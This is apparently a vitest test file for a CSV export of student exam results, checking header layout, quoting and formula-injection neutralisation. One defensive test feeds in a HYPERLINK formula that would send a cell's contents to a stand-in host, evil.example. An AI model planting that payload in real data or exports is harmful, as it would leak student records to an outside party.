import { describe, expect, it } from 'vitest';
import type { TeacherResult } from '@/types/api';
import { resultsCsv } from '../results-csv';

const result = (overrides: Partial<TeacherResult['student']> = {}): TeacherResult => ({
  result_id: 'r1234567890a',
  exam: 'e1234567890a',
  score: 7,
  total_correct: 7,
  time_taken: 4.5,
  date_completed: '2026-11-24T09:30:00.000Z',
  createdAt: '2026-11-24T09:30:01.000Z',
  total_marks: 8,
  total_questions: 8,
  duration: 10,
  type: 'assessment',
  superseded: false,
  student: {
    student_id: 's1234567890a',
    fullname: 'Mira Das',
    username: 'mira',
    sclass: 4,
    level: 3,
    ...overrides,
  },
  examDetails: { exam_id: 'e1234567890a', title: 'Friday sums', level: 3 },
});

describe('resultsCsv', () => {
  it('writes a header and one row per result, numbers plain and instants in ISO 8601', () => {
    expect(resultsCsv([result()])).toBe(
      'student,username,class,score,total_marks,percentage,right_answers,questions,minutes_taken,completed_at,result_id\r\n' +
        'Mira Das,mira,4,7,8,87.5,7,8,4.5,2026-11-24T09:30:00.000Z,r1234567890a\r\n',
    );
  });

  it('quotes a field with a comma, a quote or a line break, doubling its quotes', () => {
    const row = resultsCsv([result({ fullname: 'Das, "Mira"\nJr' })]).split('\r\n')[1];
    expect(row).toMatch(/^"Das, ""Mira""\nJr",mira,/);
  });

  it('neutralises text a spreadsheet would run as a formula with a leading quote', () => {
    const firstField = (fullname: string) =>
      resultsCsv([result({ fullname })])
        .split('\r\n')[1]!
        .split(',mira,')[0];
    expect(firstField('=HYPERLINK("https://evil.example/?d="&A2,"Open")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?d=""&A2,""Open"")"`,
    );
    expect(firstField('+1+2')).toBe("'+1+2");
    expect(firstField('-2+3')).toBe("'-2+3");
    expect(firstField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(firstField('\t=1+1')).toBe("'\t=1+1");
    expect(firstField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(firstField('Mira = Das')).toBe('Mira = Das');
  });

  it('writes only the header for no results', () => {
    expect(resultsCsv([]).split('\r\n')).toHaveLength(2);
  });
});
